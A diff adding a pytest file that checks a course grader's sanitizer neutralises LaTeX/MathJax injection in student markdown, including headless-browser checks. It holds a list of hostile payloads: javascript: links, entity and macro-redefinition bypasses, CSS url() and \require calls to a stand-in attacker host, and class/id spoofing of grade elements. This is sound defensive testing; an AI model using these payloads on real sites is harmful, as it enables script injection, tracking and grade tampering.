@@ -1,0 +1,166 @@
+"""Orders to MathJax, in what a student writes for a person to read; tried in a browser, too."""
+
+import html.parser
+import json
+import re
+
+import pytest
+
+from grader.course.lessons import all_lessons
+from grader.lms.formulas import COMMANDS, NO_WIDTH, harmless_formulas
+from grader.lms.harmless import harmless
+from tests import browser
+from tests.attacks.attacking import tried
+
+# What each would make a page ask for, or lead to.
+EVIL = "evil.example"
+ORDERS = {
+    "a link": r"$\href{javascript:alert(1)}{x}$",
+    "a link in a formula of its own": r"$$\href{javascript:alert(1)}{x}$$",
+    "a link in brackets": r"\\[\href{javascript:alert(1)}{x}\\]",
+    "a link in an environment": r"\begin{align}\href{javascript:alert(1)}{x}\end{align}",
+    "a link in a text": r"$\text{$\href{javascript:alert(1)}{x}$}$",
+    "a link behind a backslash": r"$ \\href{javascript:alert(1)}{x} $",
+    "a link over lines": "$\n\\href{javascript:alert(1)}{x}\n$",
+    "a link whose formula does not end": r"$$ a $ \href{javascript:alert(1)}{x} $",
+    "an entity for the backslash": r"$ &#92;href{javascript:alert(1)}{x} $",
+    "an entity by its name": r"$ &bsol;href{javascript:alert(1)}{x} $",
+    "an entity in the name": r"$ \le&#116; \h\hre&#102; \h{javascript:alert(1)}{x} $",
+    "an entity with noughts": r"$ &#x0005C;href{javascript:alert(1)}{x} $",
+    "another name": r"$\let\x=\href \x{javascript:alert(1)}{x}$",
+    "a definition": r"$\def\x{\href{javascript:alert(1)}}\x{y}$",
+    "a new command": r"$\newcommand{\x}{\href{javascript:alert(1)}{y}}\x$",
+    "a new environment": r"$\newenvironment{x}{\href{javascript:alert(1)}{y}}{}\begin{x}\end{x}$",
+    "a new operator": r"$\DeclareMathOperator{\x}{\href{javascript:alert(1)}{y}}\x$",
+    "a name that is put together": r"$\csname href\endcsname{javascript:alert(1)}{x}$",
+    "an element": r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
+    "a style": rf"$\style{{background:url(http://{EVIL}/style)}}{{x}}$",
+    "a class": r"$\class{grade-correct}{x}$",
+    "an identity": r"$\cssId{score}{x}$",
+    "a box": rf"$\bbox[background:url(http://{EVIL}/box)]{{x}}$",
+    "a colour": rf"$\color{{red;background:url(http://{EVIL}/color)}}{{x}}$",
+    "a background": rf"$\colorbox{{url(http://{EVIL}/colorbox)}}{{x}}$",
+    "a letter by its number": r"$\unicode[url(x)]{x3c}$",
+    "data": r"$\data{x=y}{z}$",
+    "an environment of somebody's own": r"\begin{html}x\end{html}",
+    "more commands": rf"$\require{{[http]//{EVIL}/require}}$",
+    "a reference": r"$x\label{y}$ $\ref{y}$ $\eqref{y}$",
+    "a black page": r"$\rule{99em}{99em}$",
+    "far away": r"$\hspace{-99em}x$",
+}
+FINE = {
+    "fractions": r"$\frac{a}{b} < \dfrac12$ and $$\sqrt[3]{x}$$",
+    "a matrix": "$$\n\\begin{bmatrix} 1 & 2 \\\\ 3 & 4 \\end{bmatrix}\n$$",
+    "rows that begin with letters": r"$\begin{matrix} ab \\ cd & ef \end{matrix}$",
+    "an environment": "\\begin{align*}\na &= b \\\\[2pt]\nc &= d \\tag{1}\n\\end{align*}",
+    "fonts and words": r"$\mathbf{x} \in \mathbb{R}^{n \times 3} \text{ for } \operatorname{rk}$",
+    "in brackets": r"\\(\hat{n} \cdot \vec{p}\\) and \\[\lVert x \rVert_2\\]",
+    "colours and spaces": r"$\color{red}{x} \quad \textcolor{#ff0000}{y} \hspace{1.5em} z$",
+    "prices": r"It costs $5 or $6, and `C:\n`.",
+    "no formula at all": "C:\\Users\\ada and \\def, \\foo and\n```\nprint('\\nTotal')\n```",
+    "entities": "&lt; &amp; &#8594; &#x1F697;",
+}
+
+
+@tried("text", ORDERS)
+def test_gives_an_order(text):
+    shown = harmless(text)
+    known = {*COMMANDS, "begin", "end", "color", "hspace"}
+    assert {*re.findall(r"\\([A-Za-z]{2,})", shown)} <= known
+    assert not re.search(r"\\(begin\{html|color\{red;|hspace\{-)|&(#92|bsol|#x0005C|#1)", shown)
+    assert harmless(shown) == shown
+
+
+@tried("text", {what: text for what, text in ORDERS.items() if "entity" not in what})
+def test_it_is_not_lost(text):
+    shown = harmless(text).replace(NO_WIDTH, "")
+    assert shown.replace("`", "").replace(" ", "") == text.replace(" ", "")
+
+
+def test_it_is_shown_as_code():
+    """But where programs differ on what the formula is: there the name alone is parted."""
+    differ = ("a link in a text", "a link behind a backslash", "a link whose formula does not end")
+    for what in ORDERS.keys() - differ - {what for what in ORDERS if "entity" in what}:
+        assert "`" in harmless(ORDERS[what]), what
+
+
+@tried("text", FINE)
+def test_an_honest_formula_stays_as_it_is(text):
+    assert harmless_formulas(text) == text
+
+
+@pytest.mark.parametrize("taught", all_lessons(), ids=lambda taught: taught.name)
+def test_our_own_formulas_stay_as_they_are(taught):
+    for path in (taught.solved, taught.released):
+        for cell in json.loads(path.read_text("utf-8"))["cells"]:
+            if cell["cell_type"] == "markdown":
+                text = "".join(cell["source"])
+                assert harmless_formulas(text) == text
+
+
+class _Obeyed(html.parser.HTMLParser):
+    """Collects what could lead anywhere in a page that MathJax has worked on."""
+
+    def __init__(self):
+        super().__init__()
+        self.found, self.code = [], ""
+        self._within_code = False
+
+    def handle_starttag(self, tag, attributes):
+        self._within_code = tag == "code"
+        for name, value in attributes:
+            value = (value or "").lower()
+            inner = tag == "use" and value.startswith("#mjx-")  # letters that MathJax has drawn
+            if name in ("href", "xlink:href", "src", "data-href") and not inner:
+                self.found.append((tag, name, value))
+            if name.startswith("on") or (name == "style" and "url" in value):
+                self.found.append((tag, name, value))
+            if name in ("class", "id") and value in ("grade-correct", "score"):
+                self.found.append((tag, name, value))
+
+    def handle_endtag(self, tag):
+        self._within_code = False
+
+    def handle_data(self, data):
+        self.code += data if self._within_code else ""
+
+
+def browsed(texts, entry, folder):
+    """(what would be obeyed, the code that is shown, what was asked for) of a page."""
+    page, asked = browser.seen(browser.page_of(texts, entry), folder, EVIL)
+    reader = _Obeyed()
+    reader.feed(page)
+    assert "mjx" in page, "MathJax did not work"
+    return reader.found, reader.code, asked
+
+
+needs_browser = pytest.mark.skipif(
+    not (browser.BROWSER and browser.mathjax_entries()),
+    reason="no Chromium, or no MathJax: apt-get install chromium libjs-mathjax",
+)
+
+
+@pytest.mark.slow
+@needs_browser
+@pytest.mark.parametrize("entry", browser.mathjax_entries())
+def test_a_browser_obeys_none_of_them(entry, tmp_path):
+    ours, _, _ = browsed([*FINE.values()], entry, tmp_path / "ours")
+    raw, _, asked = browsed([*ORDERS.values()], entry, tmp_path / "raw")
+    assert asked and len(set(raw) - set(ours)) > 2, "else the test could not fail"
+    found, code, asked = browsed([harmless(text) for text in ORDERS.values()], entry, tmp_path)
+    assert (set(found) - set(ours), asked) == (set(), [])
+    assert r"\href{javascript:alert(1)}{x}" in code.replace(NO_WIDTH, "")
+
+
+@pytest.mark.proof
+@needs_browser
+@pytest.mark.parametrize("entry", browser.mathjax_entries())
+def test_no_command_that_is_known_leads_anywhere(entry, tmp_path):
+    ours, _, _ = browsed([*FINE.values()], entry, tmp_path / "ours")
+    link = f"http://{EVIL}/command"
+    texts = [
+        rf"$\{name}{{{link}}}[{link}]{{\{name} javascript:alert(1)}}$" for name in sorted(COMMANDS)
+    ]
+    assert [harmless(text).replace(NO_WIDTH, "") for text in texts] == texts
+    found, _, asked = browsed([harmless(text) for text in texts], entry, tmp_path)
+    assert (set(found) - set(ours), asked) == (set(), [])
